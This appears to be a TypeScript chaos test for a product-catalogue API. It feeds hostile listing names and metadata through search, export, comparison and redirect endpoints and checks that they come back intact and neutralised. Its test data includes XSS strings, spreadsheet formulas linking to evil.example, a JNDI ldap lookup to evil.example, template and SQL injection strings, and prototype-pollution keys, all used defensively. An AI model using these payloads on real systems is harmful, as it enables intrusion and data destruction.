// Chaos only (hostile, sampled): it reads hostile listings through every endpoint.
import { assert } from 'chai';
import { parse } from 'csv-parse/sync';
import { PRODUCT_FIELDS, type Product } from '../../src/schemas/product.js';
import { useApi } from '../support/api.js';
import { pluck } from '../support/listings.js';

const LONE = '\ud800';
const NOW = new Date().toISOString();

/** Names that cause errors in file formats, spreadsheets, browsers and careless code. */
const NAMES = {
  html: '<script>alert(1)</script> &amp; <img src=x onerror=alert(2)> Lamp',
  formula: '=HYPERLINK("http://evil.example","click")',
  minus: '-2+3 Lamp',
  plus: '+1 Lamp',
  at: '@SUM(A1:A9) Lamp',
  wide: '＝1+1 Lamp',
  wideAt: '＠SUM(A1:A9) Lamp',
  tab: '\ttab first Lamp',
  return: '\r\ncarriage return first Lamp',
  apostrophe: "'=already guarded Lamp",
  lines: 'comma, "quote", semicolon; and\r\nline\nbreaks\rLamp',
  surrogate: `lone ${LONE} surrogate \udc00 Lamp ${LONE}`,
  controls: 'bell \u0007, null \u0000, escape \u001b[31m and delete \u007f Lamp',
  rightToLeft: 'right-to-left \u202e override, \u200f mark, \u2066isolate\u2069 and مصباح Lamp',
  joined: 'emoji 👩‍🚀 of many, e\u0301 combined, 中文台灯, \ufeffmark, \u2028 separator Lamp',
  long: `Lamp ${'x'.repeat(995)}`,
  longest: `Lamp ${'😀'.repeat(995)}`,
  envelope: '{"hits":{"total":{"value":0},"hits":[]},"error":"Lamp"}',
  array: '[{"_source":{"id":1}},null] Lamp',
  literal: 'null',
  template: '${jndi:ldap://evil.example} {{constructor.constructor("return 1")()}} %s %n Lamp',
  sql: `Lamp'); DROP TABLE listings;-- \\" \\u0000 \\`,
};

/**
 * Metadata with keys that have a meaning in search engines, JSON envelopes and JavaScript prototypes. It is
 * parsed from JSON, so that `__proto__` is an ordinary key.
 */
const METADATA = JSON.parse(`{
  "__proto__": { "isAdmin": true, "__proto__": "deep" },
  "constructor": { "prototype": { "polluted": true } },
  "toString": "text", "toJSON": "text", "hasOwnProperty": 1, "length": -1, "then": "no promise",
  "hits": { "total": { "value": 7 }, "hits": [{ "_source": { "id": 1 } }] },
  "_source": { "internal": { "price_units": 1 } }, "_id": "1", "found": false, "docs": [], "responses": [{ "error": {} }],
  "total": 0, "items": [], "internal": { "price_history": [] }, "pit_id": "x", "suggest": { "a": [] },
  "detail": "Not Found", "error": { "type": "x" }, "status": 500, "id": 1, "price_rank": 9, "match_score": 2,
  "a.b.c": "dots", ".": "dot", "..": "dots", "": "no name", " ": "blank", "*": "star", "$ref": "#/x", "'": "'", "\\"": "\\"",
  "=cmd": "=cmd()", "empty": {}, "none": [], "nested": [[], {}, [{}], [null], ""], "nothing": null,
  "small": 1e-7, "large": 9007199254740991, "negative": -0.5
}`) as unknown;

/** Returns a text as the catalogue stores it: without invalid and control characters. */
const kept = (text: string) => text.toWellFormed().replace(/[\0-\x08\x0B\x0C\x0E-\x1F\x7F-\x9F]/g, '');

interface Offer extends Record<string, unknown> {
  sku: string;
  source: string;
  name: string;
  description: string;
  metadata: unknown;
}

/** Offers of each name on two platforms. The same GTIN makes them one product. */
const OFFERS: Offer[] = Object.entries(NAMES).flatMap(([label, name], i) =>
  ['shop_a', 'shop_b'].map((source, platform) => ({
    sku: `${label} ${[...name].slice(0, 100).join('')}`,
    source,
    name,
    description: label.startsWith('long') ? [...`${name} `.repeat(50)].slice(0, 50_000).join('') : `${name} `,
    merchant_id: [...name].slice(0, 100).join(''),
    brand: [...name].slice(0, 100).join(''),
    category: [...name].slice(0, 200).join(''),
    category_path: ['Top, "first"', [...name].slice(0, 200).join('')],
    price: `${100 + i}.${platform}0`,
    list_price: '1000.00',
    currency: 'SGD',
    buy_url: `https://shop.example/中文?q=%3C${i}%3E&x='#é`,
    image_url: `https://shop.example/${i}.jpg?a=b,c;d`,
    rating: '4.50',
    is_available: platform === 0,
    // The listing has too short a price history for an observed reference price, so the declared price
    // counts.
    last_checked: NOW,
    gtin: gtin(i),
    metadata: i % 2 === 0 ? METADATA : [name, { [name.slice(0, 50)]: METADATA }],
  })),
);

/** Returns the n-th GTIN-13, with a valid check digit. */
function gtin(n: number): string {
  const digits = String(880_000_000_000 + n);
  const sum = [...digits].reduce((total, digit, at) => total + Number(digit) * (at % 2 === 0 ? 1 : 3), 0);
  return `${digits}${(10 - (sum % 10)) % 10}`;
}

describe('hostile listings', function () {
  const api = useApi();
  /** All listings by id, as `GET /v1/products/{id}` returns them. */
  const byId = new Map<number, Product>();

  /** Requests a path, and asserts that the body is valid UTF-8. */
  const read = async (path: string, init: RequestInit = {}) => {
    const response = await fetch(`${api.url}${path}`, {
      ...init,
      headers: { authorization: `Bearer ${key}` },
    });
    const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(
      await response.arrayBuffer(),
    );
    assert.equal(response.status, 200, `${path}: ${text.slice(0, 500)}`);
    return text;
  };
  const json = async (path: string, body?: unknown): Promise<any> =>
    JSON.parse(
      await read(path, body === undefined ? {} : { method: 'POST', body: JSON.stringify(body) }),
    ) as unknown;
  let key: string;

  before(async () => {
    key = await api.key();
    await api.load(OFFERS);
    const { items } = (await json('/v1/search?limit=100')) as { items: Product[] };
    for (const { id } of items) byId.set(id, (await json(`/v1/products/${id}`)) as Product);
    assert.equal(byId.size, OFFERS.length);
  });

  /** Asserts that each listing in a response equals the listing with its id, and returns the ids. */
  const sameListings = (listings: (Product & Record<string, unknown>)[]) => {
    for (const listing of listings) {
      const shown = Object.fromEntries(PRODUCT_FIELDS.map((field) => [field, listing[field]]));
      assert.deepEqual<unknown>(shown, byId.get(listing.id));
    }
    return new Set(listings.map(({ id }) => id));
  };
  const assertAll = (listings: (Product & Record<string, unknown>)[]) => {
    assert.equal(sameListings(listings).size, OFFERS.length);
  };

  it('are stored as sent, except for what is not text', () => {
    for (const offer of OFFERS) {
      const listing = [...byId.values()].find(
        ({ sku, source }) => source === offer.source && sku === kept(offer.sku),
      );
      const fields: [keyof Product, unknown][] = Object.entries(offer)
        .filter(([field]) => (PRODUCT_FIELDS as readonly string[]).includes(field))
        .map(([field, value]) => [field as keyof Product, value]);
      assert.lengthOf(fields, PRODUCT_FIELDS.length - 3);
      for (const [field, value] of fields) {
        // Lone surrogates are replaced by U+FFFD both in the response and in the expected value. In JSON
        // text, they would be escape sequences.
        const expected = JSON.parse(JSON.stringify(value), (_key, text: unknown) =>
          typeof text === 'string' ? kept(text) : text,
        ) as unknown;
        const actual = listing?.[field];
        if (field !== 'metadata') assert.deepEqual(actual, expected, `${offer.sku} ${field}`);
        else assert.equal(withCleanKeys(actual), withCleanKeys(value), offer.sku);
      }
    }
    assert.isUndefined(({} as Record<string, unknown>)['isAdmin']);
  });

  for (const path of ['/v1/search?limit=100', '/v1/products?limit=100', '/v1/deals?limit=100']) {
    it(`are the same Product in GET ${path}`, async () => {
      const { items, total } = await json(path);
      assert.equal(total, OFFERS.length);
      assertAll(items);
    });
  }

  it('are the same Product in GET /v1/products/trending', async () => {
    assertAll((await json('/v1/products/trending?limit=100')).items);
  });

  it('are found by their own names, SKUs and categories', async () => {
    const skus = async (query: string) => {
      const { items } = await json(`/v1/search?limit=100&${query}`);
      sameListings(items);
      return items.map((item: Product) => item.sku) as string[];
    };
    for (const { name, sku, category } of OFFERS.filter(({ source }) => source === 'shop_a')) {
      // The name is encoded as clients do, and shortened, because a URL may have at most about 16 kB.
      const query = encodeURIComponent(kept(name).slice(0, 400).toWellFormed());
      const found = await skus(`q=${query}`);
      if (/lamp|null/i.test(decodeURIComponent(query))) assert.include(found, kept(sku), name);
      assert.include(await skus(`category=${encodeURIComponent(kept(String(category)))}`), kept(sku));
      await json(`/v1/search?q=${encodeURIComponent(kept(sku))}`);
    }
  });

  it('are counted under their own categories', async () => {
    const { categories } = await json('/v1/categories?include=prices');
    assert.sameMembers(pluck(categories, 'name'), [
      ...new Set(OFFERS.map(({ category }) => kept(String(category)))),
    ]);
  });

  it('are the same Product in the JSON and NDJSON exports', async () => {
    assertAll(await json('/v1/products/export?format=json'));
    const lines = (await read('/v1/products/export?format=ndjson')).split('\n');
    assert.equal(lines.pop(), '');
    assertAll(lines.map((line) => JSON.parse(line) as Product & Record<string, unknown>));
  });

  it('are the same Product in a CSV export, to a strict reader', async () => {
    const text = await read('/v1/products/export?format=csv');
    const rows = parse(text, { record_delimiter: '\r\n', columns: true, encoding: 'utf8' }) as Record<
      keyof Product,
      string
    >[];
    assertAll(rows.map(fromCells));
    for (const cell of rows.flatMap((row) => Object.values(row)))
      assert.notMatch(cell, /^[=+\-@\t\r\n＝＋－＠]/);
  });

  it('are the same Product in comparisons', async () => {
    const ids = [...byId.keys()];
    const pairs = (await json('/v1/products/export')) as Product[];
    for (let at = 0; at < pairs.length; at += 5) {
      const product_ids = pairs.slice(at, at + 5).map(({ id }) => id);
      const { products, field_diffs } = await json('/v1/products/compare/diff', {
        product_ids,
        include_image_similarity: true,
      });
      assert.equal(sameListings(products).size, product_ids.length);
      for (const { values } of field_diffs) assert.lengthOf(values, product_ids.length);
    }
    const matched = new Set<number>();
    for (let at = 0; at < ids.length; at += 20) {
      const { comparisons } = await json('/v1/products/compare', { product_ids: ids.slice(at, at + 20) });
      for (const comparison of comparisons) {
        assert.equal(comparison.source_product_name, byId.get(comparison.source_product_id)?.name);
        for (const id of sameListings(comparison.matches)) matched.add(id);
      }
      const [first] = comparisons;
      assert.deepEqual(await json(`/v1/products/compare?product_id=${first.source_product_id}`), first);
    }
    assert.equal(matched.size, OFFERS.length, 'each has its GTIN in common with another');
  });

  it('are the same Product as a best price', async () => {
    sameListings([await json('/v1/products/best-price?q=lamp')]);
  });

  it('lead to their shops by links that are valid in a header', async () => {
    for (const { id, buy_url } of byId.values()) {
      const response = await fetch(`${api.url}/track/${id}`, { redirect: 'manual' });
      assert.equal(response.status, 302);
      const location = response.headers.get('location') ?? '';
      assert.match(location, /^[\x21-\x7e]+$/);
      assert.equal(location, new URL(buy_url ?? '').href);
    }
  });
});

/**
 * Returns the JSON text of a value as the catalogue stores it, with its keys. A reviver of `JSON.parse` could
 * not change the keys.
 */
function withCleanKeys(value: unknown): string {
  if (typeof value === 'string') return JSON.stringify(kept(value));
  if (Array.isArray(value)) return `[${value.map(withCleanKeys).join()}]`;
  if (typeof value !== 'object' || value === null) return JSON.stringify(value);
  const entries = Object.entries(value).map(
    ([name, inner]) => `${JSON.stringify(kept(name))}:${withCleanKeys(inner)}`,
  );
  return `{${entries.join()}}`;
}

/** Converts a CSV row to the Product that it represents. */
function fromCells(row: Record<keyof Product, string>): Product & Record<string, unknown> {
  const values = Object.entries(row).map(([field, cell]): [string, unknown] => {
    if (cell === '') return [field, null];
    if (['id', 'is_available', 'category_path', 'metadata'].includes(field)) return [field, JSON.parse(cell)];
    // Removes the `'` that the CSV export puts before a text that a spreadsheet would run as a formula, or
    // that begins with such a `'` itself.
    return [field, cell.replace(/^'(?='*[=+\-@\t\r\n＝＋－＠])/, '')];
  });
  return Object.fromEntries(values) as unknown as Product & Record<string, unknown>;
}
